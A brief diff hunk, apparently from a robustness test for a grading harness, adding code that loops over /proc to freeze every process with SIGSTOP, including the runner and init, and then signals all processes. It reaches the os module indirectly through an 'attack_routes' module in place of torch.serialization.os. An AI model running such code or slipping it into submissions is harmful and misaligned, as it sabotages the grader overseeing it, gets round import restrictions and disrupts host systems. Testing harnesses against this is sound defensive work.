@@ -1,6 +1,6 @@
 # Freezes every process it can see with SIGSTOP (the runner, the launcher, init), then its whole
 # session and "every process" (kill -1): the grader must still end this run at its time limit.
-_os = torch.serialization.os
+from attack_routes import os as _os
 for _pid in sorted((int(p) for p in os.listdir("/proc") if p.isdigit()), reverse=True):
     if _pid != _os.getpid():
         try:
